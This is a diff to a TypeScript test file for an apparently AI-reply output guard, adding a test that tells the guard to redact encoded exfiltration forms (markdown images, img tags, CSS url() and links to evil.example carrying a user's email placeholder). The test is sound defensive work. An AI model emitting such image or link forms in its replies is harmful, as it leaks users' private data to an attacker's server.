@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import type { GuardSettings } from '@sallyport/core';
-import { compileGuard, type Exchange } from '../src/index.ts';
+import { compileGuard, type Exchange, Placeholders } from '../src/index.ts';
 import { FORMS, ORDINARY } from './exfiltration-forms.ts';
 import { cutAtRandom, OUTPUT, readPieces, SETTINGS, seeded } from './streams.ts';
 
@@ -38,6 +38,27 @@ describe('ways out of a reply', () => {
       const { released } = readPieces(redacting, OUTPUT, [text]);
       assert.doesNotMatch(released, PAYLOAD, name);
     }
+  });
+
+  it('do not get the caller’s values put back into them, however the address is written', () => {
+    const placeholders = new Placeholders();
+    placeholders.token('EMAIL', 'ada@corp.io');
+    const context = { ...OUTPUT, placeholders };
+    for (const form of [
+      '![](http:evil.example/[EMAIL_1].png)',
+      '![](&#47;&#47;evil.example/[EMAIL_1].png)',
+      '<img src="&#x2f;&#x2f;evil.example/[EMAIL_1]/a.png">',
+      '<img src="http:&#47;&#47;[EMAIL_1].evil.example">',
+      '<p style="background:url(\\2f\\2f evil.example/[EMAIL_1])">',
+      '[log in](http:&sol;&sol;evil.example/[EMAIL_1])',
+    ]) {
+      const { effect, released } = readPieces(redacting, context, [...`${form} for [EMAIL_1]`]);
+      assert.equal(effect, 'redact', form);
+      assert.equal(released.split('ada@corp.io').length, 2, released);
+      assert.ok(released.endsWith('for ada@corp.io'), released);
+    }
+    const mail = '[write](mailto:[EMAIL_1])';
+    assert.equal(readPieces(redacting, context, [mail]).released, '[write](mailto:ada@corp.io)');
   });
 
   it('are not seen in what is ordinary', () => {
